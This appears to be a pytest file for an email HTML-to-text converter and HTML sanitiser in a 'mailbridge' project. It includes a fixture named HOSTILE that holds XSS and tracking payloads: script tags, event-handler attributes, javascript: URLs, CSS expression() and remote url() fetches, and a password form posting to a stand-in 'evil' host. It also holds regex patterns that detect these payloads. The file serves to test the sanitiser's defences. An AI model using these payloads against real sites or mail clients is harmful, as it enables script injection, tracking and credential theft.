"""HTML to text that reads like a plain mail, and to HTML that does nothing (attack 18)."""

import re
import time

import pytest

from mailbridge import hypertext


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("<div>One</div><div><br></div><div>Two</div>", "One\n\nTwo"),
        ("One<br>Two<br/>Three", "One\nTwo\nThree"),
        ("<p class=MsoNormal>One<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p><p class=MsoNormal>Two</p>",
         "One\n\nTwo"),
        ('<p style="margin:0">One</p><p style="margin: 0px">Two</p>', "One\nTwo"),
        ("<p>One<p>Two", "One\n\nTwo"),
        ("a  b\n\tc&nbsp;d &amp; &lt;e&gt; &eacute; &#1087;", "a b c d & <e> é п"),
        ("<ul><li>one<li>two<ul><li>deep</ul></ul><ol><li>a</li><li><p>b</p></li></ol>",
         "- one\n- two\n  - deep\n\n1. a\n2. b"),
        ("<table><tr><td>A</td><td>B</td></tr><tr><th>1<th>2</table>", "A\tB\n1\t2"),
        ('<a href="https://x.kz/a">here</a>', "here <https://x.kz/a>"),
        ('<a href="https://x.kz/">x.kz</a> <a href="http://www.x.kz">https://x.kz/</a>', "x.kz https://x.kz/"),
        ('<a href="mailto:a@b.c">a@b.c</a> <a href="#x">top</a> <a name=y>mark</a>', "a@b.c top mark"),
        ("<p>new</p><blockquote><p>old</p><blockquote>older</blockquote></blockquote>", "new\n\n> old\n>\n> > older"),
        ('<blockquote style="margin:0 0 0 40px;border:none;padding:0px">indented</blockquote>', "indented"),
        ("<pre>a\n  b   c\n</pre>d", "a\n  b   c\n\nd"),
        ("a<hr>b", f"a\n{'_' * 32}\nb"),
        ("<head><title>T</title><style>p{}</style></head><script>x()</script>body<!-- c -->", "body"),
        ('<div style="display:none;max-height:0">preheader</div>Hello', "Hello"),
        ('<span style="visibility: hidden">x</span><p hidden>y</p>Hello', "Hello"),
        ('<div style="display:none">forgotten<p>everything', "forgotten\n\neverything"),
        ('<td style="font-size:0px"><div style="font-size:14px">seen</div></td>', "seen"),
        ('<img alt="😀" src=x><img alt="logo of the company" src=y>', "😀"),
        ("<![if !supportLists]>·<![endif]>x", "·x"),
        ("<b>a</b><i>b</i> <font color=red>c</font>", "ab c"),
        ("plain < text", "plain < text"),
        ("", ""),
        ('<?xml version="1.0" encoding="utf-16"?><p>é</p>', "é"),
        ("<p>a\0b", "a\ufffdb"),
    ],
)  # fmt: skip
def test_text(html: str, text: str) -> None:
    assert hypertext.text(html) == text


HOSTILE = """
<script>alert(1)</script><ScRiPt src=//evil/x.js></sCrIpT><style>@import url(http://evil/x.css);body{display:none}</style>
<svg onload=alert(1)><script>alert(1)</script><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>
<a href="javascript:alert(1)" onclick="alert(1)">a</a><a href="  jAvAsCrIpT&#58;alert(1)">b</a><a href="vbscript:x">c</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">d</a><a href="https://good.kz/?a=1&b=2" target=_blank>good</a><a href="tg://resolve?x">t</a>
<img src="http://evil/track.gif"><img src="//evil/track.gif"><img src=data:image/png;base64,AAAA><img src="cid:pic@x" alt=pic onerror=alert(1)>
<img srcset="http://evil/1.png 1x" src="cid:b"><img src="/relative.png"><picture><source srcset=http://evil/2.png></picture>
<p style="background:url(http://evil/3.png);color:red">p</p><p style="color:red;position:fixed;top:0">q</p>
<p style="background-color:u\\72l(http://evil/4.png)">r</p><p style="color:expression(alert(1))">s</p><p style="font-weight:bold">bold</p>
<table background="http://evil/5.png"><tr><td background=http://evil/6.png style="background-image:url('http://evil/7.png')">cell</td></tr></table>
<form action=http://evil/><input name=password><button formaction=http://evil>Go</button><textarea>t</textarea></form>
<iframe src=http://evil></iframe><object data=http://evil></object><embed src=http://evil><video src=http://evil poster=http://evil></video>
<link rel=stylesheet href=http://evil/x.css><meta http-equiv=refresh content="0;url=http://evil"><base href=http://evil/>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>
<body onload=alert(1) background=http://evil/8.png><marquee onstart=alert(1)>m</marquee><details ontoggle=alert(1) open>d</details>
<div id=x class=y>named</div><!--[if mso]><img src=http://evil/9.png><![endif]-->
"""  # noqa: E501


def test_attack_18_what_acts_or_fetches_is_gone() -> None:
    safe = hypertext.safe(HOSTILE)
    assert "evil" not in safe
    for pattern in (
        r"<script",
        r"\bon\w+\s*=",
        r"javascript",
        r"vbscript",
        r"<svg",
        r"<math",
        r"url\(",
        r"data:",
        r"<form",
    ):
        assert not re.search(pattern, safe, re.I), pattern
    for tag in ("input", "button", "iframe", "object", "embed", "video", "link", "meta", "base", "style", "template"):
        assert f"<{tag}" not in safe
    assert "expression" not in safe
    assert "position" not in safe
    assert "tg:" not in safe
    assert " id=" not in safe
    assert " class=" not in safe


def test_what_people_need_stays() -> None:
    safe = hypertext.safe(HOSTILE)
    assert '<a href="https://good.kz/?a=1&amp;b=2" rel="noopener noreferrer nofollow">good</a>' in safe
    assert '<img src="cid:pic@x" alt="pic">' in safe
    assert '<p style="color:red">q</p>' in safe
    assert '<p style="font-weight:bold">bold</p>' in safe
    assert "<td>cell</td>" in safe


def test_what_is_safe_stays_as_it_is() -> None:
    safe = hypertext.safe(HOSTILE)
    assert hypertext.safe(safe) == safe


@pytest.mark.parametrize("tag", ["div", "blockquote", "table", "ul", "a", "b", "font"])
def test_ten_thousand_levels_are_read_in_no_time(tag: str) -> None:
    begun = time.process_time()
    assert "x" in hypertext.text(f"<{tag}>x" * 10_000)
    hypertext.safe(f"<{tag}>x" * 5_000)
    assert time.process_time() - begun < 5
